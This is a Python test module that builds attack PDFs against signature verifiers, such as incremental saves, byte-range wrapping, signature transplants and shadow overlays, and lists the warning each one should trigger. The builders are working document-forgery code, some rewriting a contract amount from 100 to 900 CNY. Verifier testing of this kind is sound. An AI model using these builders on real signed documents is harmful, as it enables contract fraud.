"""Attack files against PDF signature verifiers, built from the published attack classes.

The classes follow the public research on PDF signatures (Mladenov, Mainka et al., "1 Trillion
Dollar Refund" 2019 and "Shadow Attacks" 2021, "Breaking the Specification: PDF Certification"
2021): incremental saving (ISA), signature wrapping (SWA), universal signature forgery (USF),
shadow hide / replace / hide-and-replace, evil annotations and sneaky signatures (EAA, SSA), plus
the file-level abuses a public upload page meets (bytes after %%EOF, many fields on one signature,
encryption, broken cross-references).

Every builder takes a `Kit`: a genuine sealed PDF, and a `seal` function that seals any PDF with
a trusted key and the platform's TSA, exactly as the platform seals (signing.pdfsign). Attacks are
what an outsider without any key can do to such files, or (shadow attacks) what the author of a
document prepared before handing it to the signer. The suite in test_pdf_attacks.py runs every
file through the platform's verifier, pyHanko's and poppler's pdfsig; bench/seals.py times them.
"""

from __future__ import annotations

import base64
import io
import itertools
import re
from collections.abc import Callable
from dataclasses import dataclass

from asn1crypto import x509
from PIL import Image
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter

from democa import issuing
from pki import verify as pki_verify
from pki.models import TrustedIssuer
from signing import pdfsign, tsa
from tests import pkiparts

Sealer = Callable[[bytes], bytes]
_fields = itertools.count(1)


def platform_sealer(ca: issuing.CA, issuer_slug: str | None, *, name: str, code: str) -> Sealer:
    """Seals any PDF as the platform does (signing.pdfsign: PAdES, the platform's TSA, a DSS with
    the chain and the issuer's CRL), with a new key of a holder of this trusted issuer."""
    key = pkiparts.holder(ca, name=name, code=code)
    certificate = pki_verify.load_certificate(key.pem)
    chain = [x509.Certificate.load(ca.certificate)]
    crls = [bytes(TrustedIssuer.objects.get(slug=issuer_slug).crl_der)] if issuer_slug else []
    image = io.BytesIO()
    Image.new("RGBA", (100, 100), (220, 20, 30, 255)).save(image, "PNG")

    def seal(pdf: bytes) -> bytes:
        number = next(_fields)
        prepared = pdfsign.seal_prepare(
            pdf=pdf,
            certificate=certificate,
            chain=chain,
            algorithm=ca.algorithm,
            image_png=image.getvalue(),
            page=1,
            box=(300 + number % 3 * 80, 80, 370 + number % 3 * 80, 150),
            field_name=f"seal-{number}",
            signer_name=name,
        )
        signature = base64.b64decode(key.sign(prepared.signed_attributes))
        return pdfsign.seal_finish(
            prepared=prepared,
            certificate=certificate,
            chain=chain,
            algorithm=ca.algorithm,
            signature=signature,
            timestamper=tsa.timestamper(),
            crls=crls,
        )

    return seal


@dataclass
class Kit:
    sealed: bytes  # a genuine document with one seal (and its DSS)
    seal: Sealer  # seals a PDF once more, as the platform does


@dataclass(frozen=True)
class Attack:
    name: str
    klass: str  # the published class it belongs to
    build: Callable[[Kit], bytes]
    # "later": every seal valid but the file changed after sealing; "invalid": a seal does not hold;
    # "refused": the file is refused as a whole (with `words` in the message).
    verdict: str
    words: str  # what the platform's message must contain


# --- documents -------------------------------------------------------------------------------------


def _font() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )


def plain_pdf(text: str = "Contract amount: 100 CNY", pages: int = 1) -> bytes:
    """A small A4 document with one line of text per page, as a document before sealing."""
    writer = PdfFileWriter()
    font_ref = writer.add_object(_font())
    kids = generic.ArrayObject()
    pages_ref = writer.add_object(generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages")}))
    for number in range(pages):
        stream = generic.StreamObject(
            stream_data=f"BT /F1 18 Tf 72 700 Td ({text} p{number + 1}) Tj ET".encode()
        )
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): pages_ref,
                pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
                pdf_name("/Contents"): writer.add_object(stream),
                pdf_name("/Resources"): generic.DictionaryObject(
                    {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font_ref})}
                ),
            }
        )
        kids.append(writer.add_object(page))
    pages_dict = pages_ref.get_object()
    pages_dict[pdf_name("/Kids")] = kids
    pages_dict[pdf_name("/Count")] = generic.NumberObject(pages)
    writer.root[pdf_name("/Pages")] = pages_ref
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _box_appearance(
    writer, text: str, box=(60, 680, 400, 730), opaque: bool = True
) -> generic.IndirectObject:
    """A form XObject: an opaque white box with `text` on it, the shape overlays use."""
    width, height = box[2] - box[0], box[3] - box[1]
    fill = f"1 1 1 rg 0 0 {width} {height} re f " if opaque else ""
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, width, height))),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): writer.add_object(_font())})}
            ),
        },
        stream_data=f"{fill}0 0 0 rg BT /F1 18 Tf 12 18 Td ({text}) Tj ET".encode(),
    )
    return writer.add_object(stream)


def _rect(box) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.NumberObject, box))


def _add_annotation(
    writer: IncrementalPdfFileWriter, annotation: generic.DictionaryObject
) -> generic.IndirectObject:
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    annotation[pdf_name("/P")] = page_ref
    ref = writer.add_object(annotation)
    annots = page.get("/Annots")
    existing = list(annots) if annots is not None else []
    if annots is not None and isinstance(page.raw_get("/Annots"), generic.IndirectObject):
        writer.mark_update(page.raw_get("/Annots"))
    page[pdf_name("/Annots")] = generic.ArrayObject([*existing, ref])
    writer.update_container(page)
    return ref


def _add_field(writer: IncrementalPdfFileWriter, field_ref: generic.IndirectObject) -> None:
    root = writer.root
    form = root.get("/AcroForm")
    if form is None:
        form = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject()})
        root[pdf_name("/AcroForm")] = writer.add_object(form)
        writer.update_root()
    else:
        form = form.get_object() if isinstance(form, generic.IndirectObject) else form
    fields = form["/Fields"]
    fields.append(field_ref)
    acro = root.raw_get("/AcroForm")
    if isinstance(acro, generic.IndirectObject):
        writer.mark_update(acro)
    else:
        writer.update_root()
    if isinstance(form.raw_get("/Fields"), generic.IndirectObject):
        writer.mark_update(form.raw_get("/Fields"))


def _text_field(writer, name: str, value: str, box, appearance) -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string(name),
            pdf_name("/V"): pdf_string(value),
            pdf_name("/Rect"): _rect(box),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        }
    )


# --- raw revisions: what an attacker writes by hand -----------------------------------------------

STARTXREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF")


def last_startxref(data: bytes) -> int:
    return int(STARTXREF.findall(data)[-1])


def append_revision(
    data: bytes,
    objects: dict[int, bytes],
    *,
    root: bytes | None = None,
    prev: int | None = None,
    extra_trailer: bytes = b"",
    eof: bool = True,
    like: bytes | None = None,
) -> bytes:
    """A classic incremental update written by hand: these objects, an xref table, a trailer.
    `like` is the file to take /Size and /Root from when `data` itself no longer reads."""
    reader = PdfFileReader(io.BytesIO(like or data), strict=False)
    size = max(int(reader.trailer_view["/Size"]), max(objects, default=0) + 1)
    root_ref = root or f"{reader.root_ref.idnum} {reader.root_ref.generation} R".encode()
    body = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for number, content in sorted(objects.items()):
        offsets[number] = len(body)
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref_at = len(body)
    body += b"xref\n"
    for number in sorted(offsets):
        body += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    previous = last_startxref(data) if prev is None else prev
    body += b"trailer\n<< /Size %d /Root %s /Prev %d %s>>\n" % (size, root_ref, previous, extra_trailer)
    if eof:
        body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(body)


def object_text(data: bytes, ref: generic.IndirectObject) -> bytes:
    """The body of an object as the newest revision has it, for rewriting by hand."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    out = io.BytesIO()
    reader.get_object(ref).write_to_stream(out, None)
    return out.getvalue()


def signature_ref(data: bytes) -> generic.IndirectObject:
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    field = reader.root["/AcroForm"]["/Fields"][0].get_object()
    return field.raw_get("/V")


# --- incremental saving attacks (ISA) ------------------------------------------------------------


def isa_content_added(kit: Kit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    stream = generic.StreamObject(
        stream_data=b"1 1 1 rg 60 650 480 120 re f 0 0 0 rg BT /F1 24 Tf 72 700 Td (PAID IN FULL) Tj ET"
    )
    writer.add_stream_to_page(0, writer.add_object(stream))
    return _written(writer)


def isa_contents_replaced(kit: Kit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY) Tj ET")
    page[pdf_name("/Contents")] = writer.add_object(stream)
    writer.update_container(page)
    return _written(writer)


def isa_page_added(kit: Kit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    first = pages["/Kids"][0].get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Appendix: all claims waived) Tj ET")
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): pages_ref,
            pdf_name("/MediaBox"): first["/MediaBox"],
            pdf_name("/Contents"): writer.add_object(stream),
            pdf_name("/Resources"): first["/Resources"],
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    return _written(writer)


def isa_body_without_xref(kit: Kit) -> bytes:
    """Objects appended after %%EOF with no xref or trailer: viewers that repair files show them."""
    reader = PdfFileReader(io.BytesIO(kit.sealed), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = object_text(kit.sealed, page_ref)
    size = int(reader.trailer_view["/Size"])
    page = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % size, page)
    content = b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY) Tj ET"
    return (
        kit.sealed
        + b"%d 0 obj\n<< /Length %d >>\nstream\n" % (size, len(content))
        + content
        + b"\nendstream\nendobj\n"
        + b"%d 0 obj\n" % page_ref.idnum
        + page
        + b"\nendobj\n"
    )


def bytes_after_eof(kit: Kit) -> bytes:
    return kit.sealed + b"\n% the attacker's note\n" + b"A" * 64 + b"\n"


# --- signature wrapping (SWA) -----------------------------------------------------------------------


def swa_byte_range_moved(kit: Kit) -> bytes:
    """The signature object is redefined with a /ByteRange whose second part starts later; new
    objects are put in the gap between /Contents and the (moved) signed second part."""
    data = kit.sealed
    ref = signature_ref(data)
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    sig = reader.get_object(ref)
    start, first_len, second_start, second_len = (int(x) for x in sig["/ByteRange"])
    malicious = b"\n99 0 obj\n<< /Length 10 >>\nstream\nBT ET q Q\nendstream\nendobj\n"
    wrapped = data[:second_start] + malicious + data[second_start:]
    shift = len(malicious)
    body = object_text(data, ref)
    body = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [%d %d %d %d]" % (start, first_len, second_start + shift, second_len),
        body,
    )
    # The moved part keeps its old startxref offsets; a new revision redefines the signature object.
    return append_revision(wrapped, {ref.idnum: body}, prev=last_startxref(data) + shift, like=data)


def swa_contents_padded(kit: Kit) -> bytes:
    """/Contents widened: the gap in /ByteRange holds more than the hex string of the signature."""
    data = kit.sealed
    ref = signature_ref(data)
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    start, first_len, second_start, second_len = (int(x) for x in reader.get_object(ref)["/ByteRange"])
    body = object_text(data, ref)
    body = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [%d %d %d %d]" % (start, first_len - 40, second_start, second_len),
        body,
    )
    return append_revision(data, {ref.idnum: body})


# --- universal signature forgery (USF) -------------------------------------------------------------


def _sig_rewritten(kit: Kit, edit: Callable[[bytes], bytes]) -> bytes:
    ref = signature_ref(kit.sealed)
    return append_revision(kit.sealed, {ref.idnum: edit(object_text(kit.sealed, ref))})


def usf_contents_removed(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"", body))


def usf_contents_empty(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <>", body))


def usf_byte_range_removed(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", body))


def usf_byte_range_null(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null", body))


def usf_byte_range_zero(kit: Kit) -> bytes:
    return _sig_rewritten(
        kit, lambda body: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 0 0 0]", body)
    )


def usf_signature_transplanted(kit: Kit) -> bytes:
    """A genuine signature container copied onto another document (no key needed)."""
    other = kit.seal(plain_pdf("Contract amount: 900 CNY"))
    hex_contents = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", kit.sealed)
    target = bytearray(other)
    match = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", other)
    assert hex_contents and match
    theirs = hex_contents.group(1)
    room = match.end(1) - match.start(1)
    target[match.start(1) : match.end(1)] = theirs[:room].ljust(room, b"0")
    return bytes(target)


# --- shadow attacks ----------------------------------------------------------------------------------


def shadow_hide(kit: Kit) -> bytes:
    """Prepared: a text field whose opaque appearance covers the real text. After sealing, the
    overlay is hidden (annotation flag Hidden): the reader now sees what was under it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_pdf("Contract amount: 900 CNY")), strict=False)
    appearance = _box_appearance(writer, "Contract amount: 100 CNY")
    field = _text_field(writer, "cover", "", (60, 680, 400, 730), appearance)
    field_ref = _add_annotation(writer, field)
    _add_field(writer, field_ref)
    sealed = kit.seal(_written(writer))
    after = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    reference = generic.Reference(field_ref.idnum, field_ref.generation, after)
    cover = after.get_object(reference)
    cover[pdf_name("/F")] = generic.NumberObject(2)  # Hidden
    after.mark_update(reference)
    return _written(after)


def shadow_replace_field(kit: Kit) -> bytes:
    """A text field that existed before sealing, refilled with another value and appearance."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_pdf("Contract amount:")), strict=False)
    appearance = _box_appearance(writer, "100 CNY", box=(300, 690, 500, 730))
    field_ref = _add_annotation(
        writer, _text_field(writer, "amount", "100 CNY", (300, 690, 500, 730), appearance)
    )
    _add_field(writer, field_ref)
    sealed = kit.seal(_written(writer))
    after = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    reference = generic.Reference(field_ref.idnum, field_ref.generation, after)
    field = after.get_object(reference)
    field[pdf_name("/V")] = pdf_string("900 CNY")
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): _box_appearance(after, "900 CNY", box=(300, 690, 500, 730))}
    )
    after.mark_update(reference)
    return _written(after)


def shadow_replace_xref_only(kit: Kit) -> bytes:
    """Prepared: an unused stream with other text already in the signed file. After sealing, one
    revision gives the page's content object number the shadow's bytes, copied verbatim: no new
    content is written, only an xref entry and the copy."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_pdf("Contract amount: 100 CNY")), strict=False)
    shadow = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY p1) Tj ET")
    shadow_ref = writer.add_object(shadow)
    writer.root[pdf_name("/ShadowKeep")] = shadow_ref  # kept reachable so writers keep it
    writer.update_root()
    sealed = kit.seal(_written(writer))
    reader = PdfFileReader(io.BytesIO(sealed), strict=False)
    contents_ref = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    header = sealed.index(b"\n%d 0 obj" % shadow_ref.idnum) + 1
    body_start = sealed.index(b"obj", header) + 3
    body = sealed[body_start : sealed.index(b"endobj", body_start)].strip()
    return append_revision(sealed, {contents_ref.idnum: body})


def shadow_hide_and_replace(kit: Kit) -> bytes:
    """Prepared: a whole second page tree (the shadow document) already in the signed file. After
    sealing, a new catalog points at it: only the catalog and the trailer change."""
    base = plain_pdf("Contract amount: 100 CNY")
    writer = IncrementalPdfFileWriter(io.BytesIO(base), strict=False)
    shadow_pages_ref = writer.add_object(generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages")}))
    first = writer.root["/Pages"]["/Kids"][0].get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract amount: 900 CNY p1) Tj ET")
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): shadow_pages_ref,
            pdf_name("/MediaBox"): first["/MediaBox"],
            pdf_name("/Contents"): writer.add_object(stream),
            pdf_name("/Resources"): first["/Resources"],
        }
    )
    shadow_pages = shadow_pages_ref.get_object()
    shadow_pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(page)])
    shadow_pages[pdf_name("/Count")] = generic.NumberObject(1)
    writer.root[pdf_name("/ShadowKeep")] = shadow_pages_ref
    writer.update_root()
    sealed = kit.seal(_written(writer))
    after = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    after.root[pdf_name("/Pages")] = generic.IndirectObject(shadow_pages_ref.idnum, 0, after)
    after.update_root()
    return _written(after)


# --- evil annotations and sneaky signatures ------------------------------------------------------------


def _annotated(kit: Kit, subtype: str, text: str, box, **extra: generic.PdfObject) -> bytes:
    """The sealed file with one more annotation whose appearance is an opaque box with `text`."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): _rect(box),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _box_appearance(writer, text, box=box)}
            ),
            **{pdf_name(key): value for key, value in extra.items()},
        }
    )
    _add_annotation(writer, annotation)
    return _written(writer)


def eaa_free_text(kit: Kit) -> bytes:
    return _annotated(
        kit,
        "/FreeText",
        "VOID",
        (60, 650, 540, 760),
        **{"/Contents": pdf_string("VOID"), "/DA": pdf_string("0 0 0 rg /Helv 24 Tf")},
    )


def eaa_stamp(kit: Kit) -> bytes:
    return _annotated(kit, "/Stamp", "Contract amount: 900 CNY", (60, 680, 400, 730))


def overlay_new_text_field(kit: Kit) -> bytes:
    """An unsigned new form field whose appearance is an opaque box with other text over the
    sealed content: the overlay the issue reported as 「签章后文件未被修改」."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    appearance = _box_appearance(writer, "Amount: 900 CNY")
    ref = _add_annotation(writer, _text_field(writer, "overlay", "", (60, 680, 400, 730), appearance))
    _add_field(writer, ref)
    return _written(writer)


def ssa_unsigned_signature_field(kit: Kit) -> bytes:
    """Sneaky signature attack: an empty signature field whose appearance overlays the content."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    appearance = _box_appearance(writer, "Amount: 900 CNY")
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): pdf_string("sneaky"),
            pdf_name("/Rect"): _rect((60, 680, 400, 730)),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        }
    )
    ref = _add_annotation(writer, field)
    _add_field(writer, ref)
    return _written(writer)


def seal_appearance_replaced(kit: Kit) -> bytes:
    """The seal's own widget gets a new appearance after sealing (another picture in its place)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    field_ref = writer.root["/AcroForm"]["/Fields"].raw_get(0)
    field = field_ref.get_object()
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): _box_appearance(writer, "APPROVED", box=(0, 0, 120, 120))}
    )
    writer.update_container(field)
    return _written(writer)


# --- file-level abuse ---------------------------------------------------------------------------------


def many_fields_one_signature(kit: Kit, count: int = 300) -> bytes:
    """Hundreds of signature fields all pointing at the one genuine signature."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    value = writer.root["/AcroForm"]["/Fields"][0].get_object().raw_get("/V")
    form = writer.root["/AcroForm"]
    for number in range(count):
        field = generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): pdf_string(f"copy{number}"),
                pdf_name("/V"): value,
                pdf_name("/Rect"): _rect((0, 0, 0, 0)),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/Type"): pdf_name("/Annot"),
            }
        )
        form["/Fields"].append(writer.add_object(field))
    acro = writer.root.raw_get("/AcroForm")
    if isinstance(acro, generic.IndirectObject):
        writer.mark_update(acro)
    else:
        writer.update_root()
    return _written(writer)


def later_revision_malformed(kit: Kit) -> bytes:
    """A revision after the seal whose xref points into nowhere."""
    data = kit.sealed + b"\n"
    xref_at = len(data)
    reader = PdfFileReader(io.BytesIO(kit.sealed), strict=False)
    data += b"xref\n%d 1\n%010d 00000 n \n" % (reader.root_ref.idnum, len(kit.sealed) + 10**7)
    data += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(reader.trailer_view["/Size"]),
        reader.root_ref.idnum,
        last_startxref(kit.sealed),
        xref_at,
    )
    return data


def xref_cycle(kit: Kit) -> bytes:
    """Two cross-reference sections whose /Prev point at each other."""
    data = kit.sealed + b"\n"
    first = len(data)
    reader = PdfFileReader(io.BytesIO(kit.sealed), strict=False)
    size, root = int(reader.trailer_view["/Size"]), reader.root_ref.idnum
    section = b"xref\n0 0\ntrailer\n<< /Size %d /Root %d 0 R /Prev %%010d >>\n" % (size, root)
    second = first + len(section % 0)
    data += section % second + section % first
    data += b"startxref\n%d\n%%%%EOF\n" % second
    return data


def encrypted(kit: Kit) -> bytes:
    from pyhanko.pdf_utils.crypt import StandardSecurityHandler

    writer = PdfFileWriter()
    source = PdfFileReader(io.BytesIO(plain_pdf()), strict=False)
    writer.root[pdf_name("/Pages")] = writer.import_object(source.root.raw_get("/Pages"))
    writer._assign_security_handler(StandardSecurityHandler.build_from_pw("owner-secret", "user-secret"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def signature_dictionary_broken(kit: Kit) -> bytes:
    """The field's /V is not a dictionary at all."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field[pdf_name("/V")] = generic.NumberObject(42)
    writer.update_container(field)
    return _written(writer)


def shared_signature(kit: Kit) -> bytes:
    """A few extra fields pointing at the one genuine signature: under the count limit."""
    return many_fields_one_signature(kit, count=3)


def isa_body_then_eof(kit: Kit) -> bytes:
    """Objects appended with a bare %%EOF after them (no xref, no startxref)."""
    return isa_body_without_xref(kit) + b"%%EOF\n"


def many_revisions(kit: Kit, count: int = 130) -> bytes:
    """Over a hundred tiny incremental updates, each rewriting the document information."""
    data = kit.sealed
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    info = reader.trailer_view.raw_get("/Info")
    for number in range(count):
        body = b"<< /Producer (revision %d) >>" % number
        data = append_revision(data, {info.idnum: body}, extra_trailer=b"/Info %d 0 R " % info.idnum)
    return data


ATTACKS = [
    Attack("isa-content-added", "incremental saving", isa_content_added, "later", "第1页的页面内容"),
    Attack("isa-contents-replaced", "incremental saving", isa_contents_replaced, "later", "第1页的页面内容"),
    Attack("isa-page-added", "incremental saving", isa_page_added, "later", "新增第2页"),
    Attack("isa-body-without-xref", "incremental saving", isa_body_without_xref, "later", "文件末尾"),
    Attack("isa-body-then-eof", "incremental saving", isa_body_then_eof, "later", "签章之后追加的修订已损坏"),
    Attack("bytes-after-eof", "incremental saving", bytes_after_eof, "later", "追加了"),
    Attack("swa-byte-range-moved", "signature wrapping", swa_byte_range_moved, "refused", "交叉引用表"),
    Attack("swa-contents-padded", "signature wrapping", swa_contents_padded, "invalid", "签章未覆盖"),
    Attack(
        "usf-contents-removed", "universal signature forgery", usf_contents_removed, "invalid", "/Contents"
    ),
    Attack(
        "usf-contents-empty", "universal signature forgery", usf_contents_empty, "invalid", "签名数据的结构"
    ),
    Attack(
        "usf-byte-range-removed",
        "universal signature forgery",
        usf_byte_range_removed,
        "invalid",
        "/ByteRange",
    ),
    Attack(
        "usf-byte-range-null", "universal signature forgery", usf_byte_range_null, "invalid", "/ByteRange"
    ),
    Attack(
        "usf-byte-range-zero", "universal signature forgery", usf_byte_range_zero, "invalid", "签章未覆盖"
    ),
    Attack(
        "usf-signature-transplanted",
        "universal signature forgery",
        usf_signature_transplanted,
        "invalid",
        "已被修改",
    ),
    Attack("shadow-hide", "shadow hide", shadow_hide, "later", "表单域「cover」的显示属性"),
    Attack("shadow-replace-field", "shadow replace", shadow_replace_field, "later", "表单域「amount」的值"),
    Attack(
        "shadow-replace-xref-only", "shadow replace", shadow_replace_xref_only, "later", "第1页的页面内容"
    ),
    Attack(
        "shadow-hide-and-replace", "shadow hide-and-replace", shadow_hide_and_replace, "later", "页面树被替换"
    ),
    Attack("eaa-free-text", "evil annotation", eaa_free_text, "later", "第1页新增注释（FreeText）"),
    Attack("eaa-stamp", "evil annotation", eaa_stamp, "later", "第1页新增注释（Stamp）"),
    Attack(
        "overlay-new-text-field",
        "evil annotation",
        overlay_new_text_field,
        "later",
        "第1页新增表单域「overlay」",
    ),
    Attack(
        "ssa-unsigned-signature-field",
        "sneaky signature",
        ssa_unsigned_signature_field,
        "later",
        "第1页新增未签名的签章域「sneaky」",
    ),
    Attack("seal-appearance-replaced", "shadow replace", seal_appearance_replaced, "later", "」的外观"),
    Attack(
        "many-fields-one-signature", "denial of service", many_fields_one_signature, "refused", "个签章，超过"
    ),
    Attack("shared-signature", "denial of service", shared_signature, "refused", "指向同一个签名"),
    Attack("many-revisions", "denial of service", many_revisions, "refused", "增量保存了"),
    Attack(
        "later-revision-malformed", "malformed", later_revision_malformed, "later", "签章之后追加的修订已损坏"
    ),
    Attack("xref-cycle", "malformed", xref_cycle, "later", "循环引用"),
    Attack("encrypted", "malformed", encrypted, "refused", "已加密"),
    Attack(
        "signature-dictionary-broken", "malformed", signature_dictionary_broken, "invalid", "不是签名字典"
    ),
]


def genuine_two_seals(kit: Kit, other: Sealer) -> bytes:
    """The same document sealed again by another holder."""
    return other(kit.sealed)


def genuine_same_certificate_twice(kit: Kit, other: Sealer) -> bytes:
    return kit.seal(kit.sealed)


def genuine_validation_data_added(kit: Kit, other: Sealer) -> bytes:
    """A later revision that only adds validation data (a DSS update), as long-term archiving does."""
    from asn1crypto import cms as asn1_cms
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    reader = PdfFileReader(io.BytesIO(kit.sealed), strict=False)
    sig = reader.embedded_regular_signatures[0]
    certs = [c.chosen for c in sig.signed_data["certificates"] if isinstance(c.chosen, type(sig.signer_cert))]
    assert isinstance(sig.signed_data, asn1_cms.SignedData)
    out = io.BytesIO(kit.sealed)
    DocumentSecurityStore.add_dss(out, sig.pkcs7_content, certs=certs, force_write=True)
    return out.getvalue()


def genuine_document_time_stamp(kit: Kit, other: Sealer) -> bytes:
    """A PAdES B-LTA document time-stamp (an invisible /DocTimeStamp field) after the seal."""
    import asyncio

    from pyhanko.sign import signers

    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    out = io.BytesIO()
    stamper = signers.PdfTimeStamper(tsa.timestamper())
    asyncio.run(stamper.async_timestamp_pdf(writer, "sha256", output=out))
    return out.getvalue()


GENUINE = {
    "document-time-stamp": genuine_document_time_stamp,
    "one-seal": lambda kit, other: kit.sealed,
    "two-seals-two-holders": genuine_two_seals,
    "two-seals-same-certificate": genuine_same_certificate_twice,
    "validation-data-added": genuine_validation_data_added,
    "two-page-two-seals": lambda kit, other: other(kit.seal(plain_pdf(pages=2))),
}
